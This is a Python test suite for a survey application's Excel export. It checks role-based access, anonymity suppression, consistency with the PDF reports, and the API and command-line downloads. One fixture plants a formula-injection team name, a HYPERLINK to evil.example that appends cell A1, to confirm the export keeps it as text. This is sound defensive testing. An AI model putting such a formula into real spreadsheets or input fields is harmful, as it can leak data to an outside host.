"""The Excel workbook of a round: opened with openpyxl, it holds exactly the released cells each reader may see,
numbers as numbers with their n, hidden figures marked and found nowhere in the file, text that stays text; the
same numbers as the PDF reports; from the browser, the API and the command line."""

from __future__ import annotations

import io
import re
import zipfile
from datetime import UTC, datetime

import pytest
from openpyxl import load_workbook
from sqlalchemy import update
from sqlmodel import select

from helpers import PASSWORD, compute_results, log_in
from survey.accounts.api_tokens import create_api_token
from survey.accounts.users import create_user
from survey.analysis.aggregation import round_sums
from survey.analysis.results import Figure
from survey.db.models import Role, Round, RoundStatus, Unit
from survey.demo.build import simulate_into
from survey.demo.simulation import OrgShape
from survey.reports.catalogue import report_by_code
from survey.reports.data import round_data
from survey.reports.render import render_pdf, report_context
from survey.rounds.lifecycle import advance_round
from survey.vocabulary import MEASURE_LABELS
from test_reports import pdf_text

SHAPE = OrgShape(functions=3, teams=10, staff_per_team=6, customers_per_team=30, rounds=3, regions=2)
FORMULA_NAME = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@pytest.fixture
def simulated(db, settings):
    """Three closed rounds with their results computed; one team's name, as HR imported it, starts with "="."""
    sim = simulate_into(db, SHAPE, seed=21)
    with db.session() as session:
        session.exec(update(Unit).where(Unit.id == sim.teams[2].id).values(name=FORMULA_NAME))
        session.commit()
        round_id = session.exec(select(Round).order_by(Round.opens_at.desc())).first().id
        create_user(
            session, "first.head@example.com", "First Head", Role.HEAD, [sim.teams[0].code], password=PASSWORD
        )
        create_user(
            session,
            "function.head@example.com",
            "F Head",
            Role.HEAD,
            [sim.functions[0].code],
            password=PASSWORD,
        )
        create_user(session, "exec@example.com", "Exec", Role.EXECUTIVE, [], password=PASSWORD)
        create_user(session, "hr@example.com", "HR", Role.HR, [], password=PASSWORD)
    compute_results(db, settings)
    return sim, round_id


def publish(db, round_id: int) -> None:
    with db.session() as session:
        advance_round(session, session.get(Round, round_id), RoundStatus.PUBLISHED)


def download(client, email: str, path: str) -> bytes:
    client.cookies.clear()
    log_in(client, email)
    response = client.get(path)
    assert response.status_code == 200, (path, response.text[:300])
    assert response.headers["content-type"] == XLSX
    return response.content


def rows(book, title: str) -> list[dict]:
    sheet = book[title]
    header, *body = sheet.iter_rows()
    names = [cell.value for cell in header]
    return [dict(zip(names, row, strict=True)) for row in body]


def raw_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return "".join(archive.read(name).decode() for name in archive.namelist() if name.endswith(".xml"))


def expected_figure(figure: Figure | None) -> tuple:
    return ("hidden", "hidden") if figure is None else (figure.mean, figure.n)


def check_figure(mean_cell, n_cell, figure: Figure | None, number_format: str) -> None:
    """A released figure: a number in the pages' rounding, its n beside it; a hidden one: "hidden" twice, grey."""
    if figure is None:
        for cell in (mean_cell, n_cell):
            assert cell.value == "hidden" and cell.fill.fgColor.rgb.endswith("D9D9D9")
        return
    assert type(mean_cell.value) in (int, float) and mean_cell.value == figure.mean
    assert mean_cell.number_format == number_format
    assert type(n_cell.value) is int and n_cell.value == figure.n


def check_share(share_cell, figure: Figure | None) -> None:
    """Share favourable beside a staff mean: a fraction shown as a whole percent, hidden with its mean."""
    if figure is None:
        assert share_cell.value == "hidden"
    elif figure.favourable is None:
        assert share_cell.value is None
    else:
        assert share_cell.value == pytest.approx(figure.favourable / 100) and share_cell.number_format == "0%"


def test_hr_and_executives_get_exactly_every_released_cell(db, settings, client, simulated):
    _, round_id = simulated
    data = round_data(db, round_id, settings)
    scores = data.scores
    hr = load_workbook(io.BytesIO(download(client, "hr@example.com", f"/reports/{round_id}/workbook.xlsx")))
    assert hr.sheetnames[0] == "Read me" and "Functions by team" in hr.sheetnames
    read_me = dict(hr["Read me"].iter_rows(values_only=True))
    assert read_me["Round"] == scores.round.name and read_me["Fewest people behind a figure (k)"] == 5
    assert (
        read_me["Made for"] == "HR (hr@example.com), HR"
        and "hidden to protect anonymity" in read_me["Hidden cells"]
    )

    by_team = {(r["Function code"].value, r["Unit code"].value): r for r in rows(hr, "Functions by team")}
    expected = {(f.code, c.code): (f, c) for f in scores.functions for c in f.cells}
    assert set(by_team) == set(expected)  # every released cell, and nothing else
    hidden = shares = 0
    for key, (_, cell) in expected.items():
        row = by_team[key]
        for measure in scores.measures:
            label = MEASURE_LABELS[measure]  # the one name the pages and reports give it
            figure = None if cell.suppressed else cell.scores.of(measure)
            check_figure(row[f"{label} mean"], row[f"{label} n"], figure, "0.0")
            check_share(row[f"{label} favourable"], figure)
            shares += figure is not None and figure.favourable is not None
            hidden += figure is None
    assert hidden, "the shape is meant to leave some cells hidden"
    assert shares, "released staff means carry their share favourable"

    customers = {r["Unit code"].value: r for r in rows(hr, "Customers by team")}
    assert set(customers) == {c.code for c in scores.customers}
    for cell in scores.customers:
        check_figure(
            customers[cell.code]["CSAT%"], customers[cell.code]["CSAT% n"], cell.scores.csat_pct, "0"
        )
        check_figure(customers[cell.code]["NPS"], customers[cell.code]["NPS n"], cell.scores.nps, "0")
        check_share(customers[cell.code]["customer ease (CES) favourable"], cell.scores.ces)

    rates = {r["Unit code"].value: r for r in rows(hr, "Participation")}
    assert set(rates) == {p.code for p in data.participation}
    for p in data.participation:
        assert rates[p.code]["Invited"].value == p.invited
        assert rates[p.code]["Answered"].value == ("hidden" if p.answered is None else p.answered)

    # The executive, once the round is published, gets the same tables.
    publish(db, round_id)
    executive = load_workbook(
        io.BytesIO(download(client, "exec@example.com", f"/reports/{round_id}/workbook.xlsx"))
    )
    assert executive.sheetnames == hr.sheetnames
    for title in hr.sheetnames[1:]:
        values = [[c.value for c in r] for r in hr[title].iter_rows()]
        assert values == [[c.value for c in r] for r in executive[title].iter_rows()], title
    sheet = executive["Functions by team"]
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref.startswith("A1:")
    assert sheet.column_dimensions["D"].width > 10


def _hidden_values(db, round_id: int, scores) -> set[str]:
    """The true means of every team cell the release gate hid, as the file would spell them."""
    with db.engine.connect() as connection:
        codes = dict(connection.execute(select(Unit.id, Unit.code)).all())
        sums = round_sums(connection, round_id)
    found = set()
    for function in scores.functions:
        for cell in function.teams:
            true = {
                codes_pair: measures
                for codes_pair, measures in sums.internal.items()
                if (codes[codes_pair[0]], codes[codes_pair[1]]) == (function.code, cell.code)
            }
            for measures in true.values():
                for measure, total in measures.items():
                    if measure in scores.measures and total.n and cell.scores.of(measure) is None:
                        found.add(repr(round(total.total / total.n, 4)))
    return found


def test_no_hidden_value_is_anywhere_in_the_file(db, settings, client, simulated):
    """As an attacker would: unzip the workbook and search every part for the hidden cells' true means."""
    _, round_id = simulated
    scores = round_data(db, round_id, settings).scores
    data = download(client, "hr@example.com", f"/reports/{round_id}/workbook.xlsx")
    book = load_workbook(io.BytesIO(data))
    shown = {
        repr(cell.value)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, float)
    }
    secrets = _hidden_values(db, round_id, scores) - shown  # a hidden mean equal to a shown one says nothing
    assert len(secrets) > 5
    text = raw_xml(data)
    numbers = set(re.findall(r"-?\d+\.\d+", text))
    assert not secrets & numbers


def test_a_head_gets_only_their_units(db, settings, client, simulated):
    sim, round_id = simulated
    own, other = sim.teams[0], sim.teams[1]
    client.cookies.clear()
    log_in(client, "first.head@example.com")
    assert client.get(f"/reports/{round_id}/workbook.xlsx").status_code == 404  # not published yet
    publish(db, round_id)
    data = download(client, "first.head@example.com", f"/reports/{round_id}/workbook.xlsx")
    book = load_workbook(io.BytesIO(data))
    assert {r["Unit code"].value for r in rows(book, "Functions by team")} == {own.code, None}
    assert {r["Unit code"].value for r in rows(book, "Customers by team")} == {own.code, None}
    assert {r["Unit code"].value for r in rows(book, "Participation")} == {own.code}
    assert "Comments" not in book.sheetnames and "Findings" not in book.sheetnames
    text = raw_xml(data)
    with db.session() as session:
        teams = session.exec(select(Unit).where(Unit.id.in_([t.id for t in sim.teams]))).all()
    for team in teams:
        if team.id != own.id:
            assert (
                team.code not in text and team.name.replace("&", "&amp;").replace('"', "&quot;") not in text
            )
    for path in (f"{other.id}/xlsx", "organisation/xlsx", "999999/xlsx"):
        assert client.get(f"/reports/{round_id}/{path}").status_code == 404, path
    assert client.get(f"/reports/{round_id}/{own.id}/xlsx").status_code == 200
    # The unit's page and the reports page link to the workbooks the head may download.
    assert f"/reports/{round_id}/{own.id}/xlsx" in client.get(f"/units/{own.id}").text
    listing = client.get("/reports").text
    assert (
        f"/reports/{round_id}/workbook.xlsx" in listing
        and f"/reports/{round_id}/{other.id}/xlsx" not in listing
    )

    # A support function's head gets their function at every team, and no other function.
    data = download(client, "function.head@example.com", f"/reports/{round_id}/workbook.xlsx")
    book = load_workbook(io.BytesIO(data))
    assert {r["Function code"].value for r in rows(book, "Functions by team")} == {sim.functions[0].code}
    text = raw_xml(data)
    for function in sim.functions[1:]:
        assert function.name not in text and function.code not in text


def test_a_unit_name_starting_with_equals_is_text_not_a_formula(db, client, simulated):
    _, round_id = simulated
    data = download(client, "hr@example.com", f"/reports/{round_id}/workbook.xlsx")
    book = load_workbook(io.BytesIO(data))
    names = [r["Unit"] for r in rows(book, "Functions by team") if "HYPERLINK" in str(r["Unit"].value)]
    assert names and all(c.value == "'" + FORMULA_NAME and c.data_type == "s" for c in names)
    assert "<f>" not in raw_xml(data) and "<f " not in raw_xml(data)


def test_the_workbook_says_what_the_pdf_reports_say(db, settings, client, simulated):
    """For a function and for a team, the figure printed in its PDF is the workbook's, as Excel shows it."""
    sim, round_id = simulated
    data = round_data(db, round_id, settings)
    book = load_workbook(io.BytesIO(download(client, "hr@example.com", f"/reports/{round_id}/workbook.xlsx")))
    with db.session() as session:
        a_round = session.get(Round, round_id)
        function_ref = report_by_code(session, a_round, sim.functions[0].code)
        team_ref = report_by_code(session, a_round, sim.teams[0].code)
    function = data.scores.function(sim.functions[0].code)
    total = next(
        r
        for r in rows(book, "Functions by dimension")
        if r["Function code"].value == function.code and r["Measure"].value == "Overall"
    )
    shown = f"{total['Mean (1 to 7)'].value:.1f}"  # the cell's format is 0.0
    function_text = pdf_text(render_pdf(report_context(data, function_ref)))
    assert f"Staff rate {function.name} {shown}" in function_text
    assert f"{total['n'].value} staff who used {function.name}" in function_text

    team_text = pdf_text(render_pdf(report_context(data, team_ref)))
    for f in data.scores.functions:
        row = next(
            r
            for r in rows(book, "Functions by team")
            if r["Function code"].value == f.code and r["Unit code"].value == sim.teams[0].code
        )
        line = next(line for line in team_text.splitlines() if line.startswith(f.name))
        mean, n = row["Overall mean"].value, row["Overall n"].value
        assert (f"{mean:.1f} (n = {n})" if mean != "hidden" else "hidden") in line, line


def test_the_api_serves_the_workbook_of_a_closed_round(db, client, simulated):
    sim, round_id = simulated
    with db.session() as session:
        _, token = create_api_token(session, "BI", ["results:read"], None, datetime.now(UTC))
        _, reports_token = create_api_token(session, "other", ["reports:read"], None, datetime.now(UTC))
    headers = {"Authorization": f"Bearer {token}"}
    whole = client.get(f"/api/rounds/{round_id}/workbook", headers=headers)
    assert whole.status_code == 200 and whole.headers["content-type"] == XLSX
    book = load_workbook(io.BytesIO(whole.content))
    assert len({r["Unit code"].value for r in rows(book, "Customers by team")}) > SHAPE.teams
    assert "the API token 'BI'" in [c.value for c in book["Read me"]["B"]]
    one = client.get(f"/api/rounds/{round_id}/workbook?unit={sim.teams[0].code}", headers=headers)
    assert one.status_code == 200
    codes = {r["Unit code"].value for r in rows(load_workbook(io.BytesIO(one.content)), "Customers by team")}
    assert codes == {sim.teams[0].code, None}
    missing = client.get(f"/api/rounds/{round_id}/workbook?unit=NOPE", headers=headers)
    assert missing.status_code == 400 and "no unit with the code 'NOPE'" in missing.json()["detail"]
    assert client.get("/api/rounds/424242/workbook", headers=headers).status_code == 404
    denied = client.get(
        f"/api/rounds/{round_id}/workbook", headers={"Authorization": f"Bearer {reports_token}"}
    )
    assert denied.status_code == 403
    with db.session() as session:  # an open round's results are not released: 409, as for its scores
        session.exec(update(Round).where(Round.id == round_id).values(status=RoundStatus.OPEN))
        session.commit()
    refused = client.get(f"/api/rounds/{round_id}/workbook", headers=headers)
    assert refused.status_code == 409 and "released when it closes" in refused.text


def test_survey_export_writes_the_workbook_and_refuses_bad_arguments(run, db, simulated, tmp_path):
    sim, round_id = simulated
    with db.session() as session:
        name = session.get(Round, round_id).name
    out = tmp_path / "round.xlsx"
    result = run("export", name, "--out", str(out))
    assert result.exit_code == 0, result.output
    assert "Functions by team" in load_workbook(out).sheetnames
    result = run("export", name, "--out", str(tmp_path / "team.xlsx"), "--unit", sim.teams[0].code)
    assert result.exit_code == 0, result.output
    book = load_workbook(tmp_path / "team.xlsx")
    assert {r["Unit code"].value for r in rows(book, "Participation")} == {sim.teams[0].code}
    for args, message in [
        (["export", "no such round", "--out", str(out)], "no round"),
        (["export", name, "--out", str(tmp_path / "x.csv")], "must end in .xlsx"),
        (["export", name, "--out", str(tmp_path / "no" / "x.xlsx")], "does not exist"),
        (["export", name, "--out", str(out), "--unit", "NOPE"], "no unit with the code 'nope'"),
        (["export", name], "missing option '--out'"),
    ]:
        result = run(*args)
        assert result.exit_code == 2 and message in result.output.lower().replace("\n", " "), (
            args,
            result.output,
        )
    assert sorted(p.name for p in tmp_path.iterdir() if "xlsx" in p.name) == ["round.xlsx", "team.xlsx"]


@pytest.mark.browser
def test_a_head_on_a_phone_downloads_their_teams_workbook_from_the_unit_page(tmp_path):
    """A team's head opens their team's page on a phone, taps "Excel workbook", and gets their team's figures."""
    from playwright.sync_api import sync_playwright

    from helpers import free_port
    from survey.db.engine import Database, upgrade
    from survey.settings import Settings
    from test_browser import CHROMIUM, CHROMIUM_FLAGS, serving

    url = f"sqlite:///{tmp_path}/exports.db"
    upgrade(url)
    db = Database(url)
    sim = simulate_into(
        db, OrgShape(functions=2, teams=6, staff_per_team=6, customers_per_team=10, rounds=2), 3
    )
    compute_results(db, Settings(database_url=url))
    team = sim.teams[0]
    with db.session() as session:
        for a_round in session.exec(select(Round)).all():
            advance_round(session, a_round, RoundStatus.PUBLISHED)
        create_user(session, "head@example.com", "Head", Role.HEAD, [team.code], password=PASSWORD)
    db.dispose()
    port = free_port()
    base_url = f"http://127.0.0.1:{port}"
    with serving(url, base_url, port), sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_FLAGS)
        page = browser.new_page(viewport={"width": 390, "height": 844})
        page.goto(f"{base_url}/login")
        page.fill("#email", "head@example.com")
        page.fill("#password", PASSWORD)
        page.click("button[type=submit]")
        page.goto(f"{base_url}/units/{team.id}")
        page.screenshot(path=str(tmp_path / "unit-390.png"), full_page=True)
        assert page.evaluate("document.documentElement.scrollWidth") <= 390  # nothing wider than the phone
        with page.expect_download() as download:
            page.locator("a", has_text="Excel workbook").first.click()
        assert download.value.suggested_filename.endswith(f"-{team.code}.xlsx")
        book = load_workbook(io.BytesIO(download.value.path().read_bytes()))  # saved without a suffix
        assert {r["Unit code"].value for r in rows(book, "Functions by team")} == {team.code, None}
        browser.close()
